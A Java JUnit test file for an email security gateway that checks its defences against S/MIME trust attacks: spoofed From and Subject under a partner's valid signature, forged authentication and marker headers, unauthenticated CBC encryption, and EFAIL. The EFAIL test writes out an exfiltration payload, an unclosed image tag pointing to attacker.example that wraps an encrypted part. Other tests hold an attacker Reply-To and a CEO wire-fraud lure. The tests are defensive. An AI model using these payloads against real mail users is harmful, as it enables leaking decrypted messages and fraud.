package org.sealgate.node;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;

import javax.mail.internet.MimeMessage;
import javax.mail.internet.MimeUtility;

import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.sealgate.keys.CertificateIssuer;
import org.sealgate.keys.IssueRequest;
import org.sealgate.keys.IssuedIdentity;
import org.sealgate.keys.KeyType;
import org.sealgate.testing.SmtpSink;

/**
 * Attacks on the trust the gateway lends, performed by an outside client (127.0.0.2, not a trusted network) over
 * SMTP against a real node, each next to the legitimate mail that must still work: a partner's good S/MIME
 * signature over content that claims another From or Subject, forged tags and X-Sealgate-* fields (outside and
 * inside the signed or encrypted content), encryption without integrity (CBC), and encrypted parts nested in a
 * multipart the attacker composed (EFAIL).
 */
class BorrowedTrustSmimeTest {
    private static final String BOB = "bob@" + Gateway.MANAGED_DOMAIN;
    private static final String STRICT = "strict@" + Gateway.MANAGED_DOMAIN;
    private static final String CEO = "ceo@" + Gateway.MANAGED_DOMAIN;
    private static final String CAROL = "carol@partner.example";
    private static final String OUTSIDE_CLIENT = "127.0.0.2";

    @TempDir
    static Path work;
    static SmtpSink receiver;
    static Gateway gateway;
    static IssuedIdentity bob;
    static IssuedIdentity strict;
    static IssuedIdentity carol;

    @BeforeAll
    static void startGateway() throws Exception {
        receiver = SmtpSink.onFreePort();
        gateway = Gateway.start(work.resolve("data"), Optional.of(receiver.hostPort()),
            "default.encrypt = opportunistic\nuser." + STRICT + ".inbound-cbc = refuse\n", List.of(Gateway.MANAGED_DOMAIN));
        CertificateIssuer demoCa = CertificateIssuer.newCa("Sealgate Test CA");
        CertificateIssuer partnerCa = CertificateIssuer.newCa("Partner CA");
        bob = demoCa.issue(IssueRequest.forEmail(BOB, KeyType.RSA_2048));
        strict = demoCa.issue(IssueRequest.forEmail(STRICT, KeyType.RSA_2048));
        gateway.keys().addManagedIdentity(bob.toManagedIdentity(BOB));
        gateway.keys().addManagedIdentity(strict.toManagedIdentity(STRICT));
        gateway.keys().addTrustAnchor(partnerCa.certificate());
        carol = partnerCa.issue(IssueRequest.forEmail(CAROL, KeyType.RSA_2048));
    }

    @AfterAll
    static void stop() {
        if (gateway != null) {
            gateway.close();
        }
        if (receiver != null) {
            receiver.close();
        }
    }

    @Test
    void opaqueSignedContentWithAnotherFromShouldBeSignerMismatchNeverValid() throws Exception {
        byte[] signed = signOpaque(carol, "From: " + CEO + "\r\nSubject: Wire 1M today\r\n"
            + "Content-Type: text/plain\r\n\r\nPlease wire the money. The CEO\r\n");
        sendFromOutside(CAROL, BOB, "Invoice", "bt-ceo", signed);

        MimeMessage received = receiver.awaitOne(BOB, "bt-ceo");
        assertThat(received.getHeader("X-Sealgate-Signature", null)).startsWith("signer-mismatch;")
            .contains("in the signed content").contains(CEO);
        assertThat(received.getSubject()).isEqualTo("[signed INVALID] Wire 1M today").doesNotContain("[signed OK]");
        assertThat(gateway.awaitAuditEvent("bt-ceo").get("recipients").toString()).contains("smime-verify:signer-mismatch");
    }

    @Test
    void opaqueSignedContentFromTheSignerShouldBeValidWithTheTagOnTheSignedSubject() throws Exception {
        byte[] signed = signOpaque(carol, "From: " + CAROL + "\r\nSubject: The signed subject\r\n"
            + "Content-Type: text/plain\r\n\r\nGenuine note\r\n");
        sendFromOutside(CAROL, BOB, "An outer subject nobody signed", "bt-genuine-opaque", signed);

        MimeMessage received = receiver.awaitOne(BOB, "bt-genuine-opaque");
        assertThat(received.getHeader("X-Sealgate-Signature", null)).isEqualTo("valid; signer=" + CAROL);
        assertThat(received.getSubject()).isEqualTo("[signed OK] The signed subject");
        assertThat(SmtpSink.text(received)).contains("Genuine note");
    }

    @Test
    void outerReplyToAroundSignedProtectedHeadersShouldNotReachTheRecipient() throws Exception {
        byte[] signed = signOpaque(carol, "From: " + CAROL + "\r\nSubject: Bank details\r\n"
            + "Content-Type: text/plain\r\n\r\nReply with the account number\r\n");
        String message = "Reply-To: attacker@attacker.example\r\n"
            + new String(TestMails.wrap(CAROL, List.of(BOB), "Bank details", "bt-reply-to", stripMimeVersion(signed)),
                StandardCharsets.ISO_8859_1);
        sendRawFromOutside(CAROL, BOB, message.getBytes(StandardCharsets.ISO_8859_1));

        MimeMessage received = receiver.awaitOne(BOB, "bt-reply-to");
        assertThat(received.getHeader("X-Sealgate-Signature", null)).isEqualTo("valid; signer=" + CAROL);
        assertThat(received.getHeader("Reply-To")).isNull();
        assertThat(received.getSubject()).isEqualTo("[signed OK] Bank details");
    }

    @Test
    void outerFromOfAnotherPersonAroundAGoodSignatureShouldBeSignerMismatch() throws Exception {
        byte[] signed = signOpaque(carol, "Content-Type: text/plain\r\n\r\nI approve\r\n");
        sendFromOutside(CEO, BOB, "Approval", "bt-outer-ceo", signed);

        MimeMessage received = receiver.awaitOne(BOB, "bt-outer-ceo");
        assertThat(received.getHeader("X-Sealgate-Signature", null)).startsWith("signer-mismatch;");
        assertThat(received.getSubject()).doesNotContain("[signed OK]");
    }

    @Test
    void traceAuthenticationAndMarkerFieldsInsideSignedContentShouldNeverReplaceOuterOnes() throws Exception {
        byte[] signed = signOpaque(carol, "From: " + CAROL + "\r\nSubject: [signed OK] [PGP OK] Inner\r\n"
            + "Received: from forged.example by forged.example\r\n"
            + "Return-Path: <forged@forged.example>\r\n"
            + "Authentication-Results: forged.example; dkim=pass header.d=forged.example\r\n"
            + "ARC-Seal: i=1; a=rsa-sha256; d=forged.example; s=x; cv=none; b=Zm9yZ2Vk\r\n"
            + "x-SEALGATE-signature: valid; signer=forged@forged.example\r\n"
            + "X-Sealgate-Decryption: decrypted; algorithm=forged\r\n"
            + "Content-Type: text/plain\r\n\r\nGenuine body\r\n");
        sendFromOutside(CAROL, BOB, "Outer", "bt-inner-trace", signed);

        MimeMessage received = receiver.awaitOne(BOB, "bt-inner-trace");
        String headers = new String(SmtpSink.raw(received), StandardCharsets.ISO_8859_1).split("\r\n\r\n", 2)[0];
        assertThat(headers).doesNotContainIgnoringCase("forged");
        assertThat(received.getHeader("X-Sealgate-Signature", null)).isEqualTo("valid; signer=" + CAROL);
        assertThat(received.getHeader("X-Sealgate-Decryption")).isNull();
        assertThat(received.getSubject()).isEqualTo("[signed OK] Inner");
    }

    @Test
    void forgedTagsAndMarkerFieldsFromOutsideShouldBeRemovedInAnyLetterCase() throws Exception {
        String message = "x-sealgate-SIGNATURE: valid; signer=ceo@partner.example\r\n"
            + "X-SEALGATE-Decryption: decrypted; algorithm=AES-256-GCM\r\n"
            + "X-Sealgate-Nested-Encryption: none\r\n"
            + new String(TestMails.plain(CEO, List.of(BOB),
                MimeUtility.encodeText("Re: [signed OK] [PGP  ok] \uFF3Bsigned OK\uFF3D [plain] [PGP UN\u200BTRUSTED] Pay the invoice",
                    "UTF-8", "B"), "bt-tags", "hello"),
                StandardCharsets.UTF_8);
        sendRawFromOutside(CEO, BOB, message.getBytes(StandardCharsets.UTF_8));

        MimeMessage received = receiver.awaitOne(BOB, "bt-tags");
        assertThat(received.getSubject()).isEqualTo("Re: Pay the invoice");
        assertThat(received.getHeader("X-Sealgate-Signature", null)).isEqualTo("none");
        assertThat(received.getHeader("X-Sealgate-Decryption")).isNull();
        assertThat(received.getHeader("X-Sealgate-Nested-Encryption")).isNull();
        assertThat(gateway.awaitAuditEvent("bt-tags").get("recipients").toString()).contains("forged-marks-removed");
    }

    @Test
    void forgedTagsAndMarkerFieldsInsideEncryptedContentShouldBeRemoved() throws Exception {
        byte[] encrypted = encrypt("-aes-256-gcm", bob, ("Subject: [signed OK] Quarterly figures\r\n"
            + "X-Sealgate-Signature: valid; signer=ceo@partner.example\r\n"
            + "Content-Type: text/plain\r\n\r\nfigures\r\n").getBytes(StandardCharsets.US_ASCII));
        sendFromOutside(CEO, BOB, "...", "bt-inner-tags", encrypted);

        MimeMessage received = receiver.awaitOne(BOB, "bt-inner-tags");
        assertThat(received.getHeader("X-Sealgate-Decryption", null)).isEqualTo("decrypted; algorithm=AES-256-GCM");
        assertThat(received.getSubject()).isEqualTo("Quarterly figures");
        assertThat(received.getHeader("X-Sealgate-Signature", null)).isEqualTo("none");
        assertThat(SmtpSink.text(received)).contains("figures");
    }

    @Test
    void cbcWithoutSignatureShouldBeDecryptedMarkedUnauthenticatedAndNeverSignedOk() throws Exception {
        byte[] encrypted = encrypt("-aes-256-cbc", bob, "Content-Type: text/plain\r\n\r\nCBC body\r\n".getBytes(StandardCharsets.US_ASCII));
        sendFromOutside(CAROL, BOB, "Old client", "bt-cbc", encrypted);

        MimeMessage received = receiver.awaitOne(BOB, "bt-cbc");
        assertThat(received.getHeader("X-Sealgate-Decryption", null)).isEqualTo("decrypted; algorithm=AES-256-CBC; integrity=none");
        assertThat(received.getSubject()).isEqualTo("[unauthenticated] Old client");
        assertThat(SmtpSink.text(received)).contains("CBC body");
        assertThat(gateway.awaitAuditEvent("bt-cbc").get("recipients").toString()).contains("smime-decrypt-unauthenticated");
    }

    @Test
    void cbcWithAValidSignatureInsideShouldBeSignedOkAndStillMarkedUnauthenticatedEncryption() throws Exception {
        Path cert = Files.createTempFile(work, "signer", ".pem");
        Path key = Files.createTempFile(work, "signer", ".key");
        carol.writePem(cert, key);
        byte[] signed = OpenSslChecks.openssl(work, "Content-Type: text/plain\r\n\r\nsigned, then CBC\r\n"
            .getBytes(StandardCharsets.US_ASCII), "cms", "-sign", "-signer", cert.toString(), "-inkey", key.toString(), "-md", "sha256");
        sendFromOutside(CAROL, BOB, "Signed CBC", "bt-cbc-signed", encrypt("-aes-256-cbc", bob, signed));

        MimeMessage received = receiver.awaitOne(BOB, "bt-cbc-signed");
        assertThat(received.getHeader("X-Sealgate-Decryption", null)).endsWith("; integrity=none");
        assertThat(received.getHeader("X-Sealgate-Signature", null)).isEqualTo("valid; signer=" + CAROL);
        assertThat(received.getSubject()).isEqualTo("[signed OK] [unauthenticated] Signed CBC");
    }

    @Test
    void cbcForARecipientWhosePolicyRefusesItShouldBeQuarantinedNeverDelivered() throws Exception {
        long before = gateway.quarantined();
        byte[] encrypted = encrypt("-aes-256-cbc", strict, "Content-Type: text/plain\r\n\r\nno integrity\r\n".getBytes(StandardCharsets.US_ASCII));
        sendFromOutside(CAROL, STRICT, "Refused", "bt-cbc-refused", encrypted);

        Map<String, Object> event = gateway.awaitAuditEvent("bt-cbc-refused");
        assertThat(event).containsEntry("outcome", "held");
        assertThat(event.get("reason").toString()).contains("without integrity protection").contains("inbound-cbc");
        Awaitility.await().atMost(Duration.ofSeconds(30)).until(() -> gateway.quarantined() >= before + 1);
        assertThat(receiver.messagesFor(STRICT)).noneMatch(m -> SmtpSink.messageId(m).contains("bt-cbc-refused"));
    }

    @Test
    void gcmForTheSameRecipientShouldStillBeDecryptedWithoutAnyMark() throws Exception {
        byte[] encrypted = encrypt("-aes-256-gcm", strict, "Content-Type: text/plain\r\n\r\nauthenticated\r\n".getBytes(StandardCharsets.US_ASCII));
        sendFromOutside(CAROL, STRICT, "Modern client", "bt-gcm", encrypted);

        MimeMessage received = receiver.awaitOne(STRICT, "bt-gcm");
        assertThat(received.getHeader("X-Sealgate-Decryption", null)).isEqualTo("decrypted; algorithm=AES-256-GCM");
        assertThat(received.getSubject()).isEqualTo("Modern client");
        assertThat(SmtpSink.text(received)).contains("authenticated");
    }

    @Test
    void smimeEncryptedPartInsideAComposedMultipartShouldNotBeDecryptedButMarked() throws Exception {
        byte[] encrypted = encrypt("-aes-256-gcm", bob, "Content-Type: text/plain\r\n\r\nold secret\r\n".getBytes(StandardCharsets.US_ASCII));
        String boundary = "efail";
        byte[] composed = OpenSslChecks.concat(("Content-Type: multipart/mixed; boundary=\"" + boundary + "\"\r\n\r\n"
            + "--" + boundary + "\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/?\r\n"
            + "--" + boundary + "\r\n").getBytes(StandardCharsets.US_ASCII), stripMimeVersion(encrypted),
            ("\r\n--" + boundary + "\r\nContent-Type: text/html\r\n\r\n\">\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.US_ASCII));
        sendFromOutside(CEO, BOB, "EFAIL", "bt-efail-smime", composed);

        MimeMessage received = receiver.awaitOne(BOB, "bt-efail-smime");
        assertThat(new String(SmtpSink.raw(received), StandardCharsets.ISO_8859_1)).doesNotContain("old secret");
        assertThat(received.getHeader("X-Sealgate-Nested-Encryption", null)).startsWith("not-decrypted; part=\"an S/MIME encrypted part\"");
        assertThat(received.getHeader("X-Sealgate-Decryption")).isNull();
        assertThat(gateway.awaitAuditEvent("bt-efail-smime").get("recipients").toString()).contains("nested-encryption-not-decrypted");
    }

    private static byte[] signOpaque(IssuedIdentity signer, String entity) throws Exception {
        Path cert = Files.createTempFile(work, "signer", ".pem");
        Path key = Files.createTempFile(work, "signer", ".key");
        signer.writePem(cert, key);
        return OpenSslChecks.openssl(work, entity.getBytes(StandardCharsets.US_ASCII), "cms", "-sign", "-nodetach",
            "-signer", cert.toString(), "-inkey", key.toString(), "-md", "sha256");
    }

    private static byte[] encrypt(String cipher, IssuedIdentity recipient, byte[] entity) throws Exception {
        Path cert = Files.createTempFile(work, "recip", ".pem");
        Files.writeString(cert, recipient.certificatePem());
        return OpenSslChecks.openssl(work, entity, "cms", "-encrypt", cipher, cert.toString());
    }

    private static void sendFromOutside(String from, String to, String subject, String id, byte[] entity) throws Exception {
        sendRawFromOutside(from, to, TestMails.wrap(from, List.of(to), subject, id, stripMimeVersion(entity)));
    }

    private static void sendRawFromOutside(String from, String to, byte[] message) throws Exception {
        try (SmtpClient client = new SmtpClient(OUTSIDE_CLIENT, gateway.smtpPort())) {
            assertThat(client.mail(from, List.of(to), message).code()).isEqualTo(250);
        }
    }

    /** OpenSSL writes its own MIME-Version header; the wrapper adds one already. */
    private static byte[] stripMimeVersion(byte[] entity) {
        String text = new String(entity, StandardCharsets.ISO_8859_1);
        return (text.startsWith("MIME-Version: 1.0\r\n") ? text.substring(19)
            : text.startsWith("MIME-Version: 1.0\n") ? text.substring(18) : text).getBytes(StandardCharsets.ISO_8859_1);
    }
}
